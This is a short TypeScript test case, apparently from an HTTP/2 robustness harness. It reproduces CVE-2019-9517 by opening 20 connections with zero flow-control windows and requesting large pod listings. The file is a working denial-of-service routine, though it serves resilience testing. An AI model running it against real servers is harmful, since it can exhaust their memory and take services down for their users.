// Answers that are never taken: the window of each is 0.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9517',
  does: 'asks for 250 lists of 200 MB with windows of 0, on 20 connections',
  who: ['known', 'unknown'],
  // An answer without progress is reset when its user has too many of them.
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', 'RST_STREAM INTERNAL_ERROR'],
  run: (target, signal) =>
    attackHttp2(target, signal, { connections: 20, settings: [[h2.INITIAL_WINDOW_SIZE, 0]] }, (connection) =>
      closedLoop(connection, 250, request(head(target, 'GET', '/api/v1/pods?bytes=200000000'))),
    ),
}
